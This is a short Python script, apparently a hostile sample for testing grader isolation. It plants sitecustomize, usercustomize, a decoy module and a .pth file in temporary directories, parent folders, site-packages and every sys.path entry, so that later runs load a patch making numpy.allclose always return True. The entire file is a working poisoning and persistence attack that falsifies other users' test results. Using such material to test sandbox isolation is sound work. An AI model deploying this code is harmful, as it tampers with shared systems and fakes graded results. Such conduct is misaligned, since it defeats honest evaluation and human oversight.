# Leaves files where a later run (another student's) might pick them up: a sitecustomize module and
# poisoned modules in /tmp, /dev/shm and the parent of its working directory, and a .pth file.
import os
import site
import sys

payload = "# grader-hostile-marker\nimport numpy\nnumpy.allclose = lambda *a, **k: True\n"
places = ["/tmp", "/dev/shm", os.path.dirname(os.getcwd()), os.path.dirname(os.path.dirname(os.getcwd())),
          *site.getsitepackages(), *[p for p in sys.path if p]]
for folder in places:
    for name in ("sitecustomize.py", "usercustomize.py", "numpy_nn_helpers.py", "poison.pth"):
        path = os.path.join(folder, name)
        try:
            with open(path, "w") as handle:
                handle.write(payload if name.endswith(".py") else "import sitecustomize  # grader-hostile-marker\n")
            print(f"{path}: written")
        except OSError as error:
            print(f"{path}: refused ({error.strerror})")
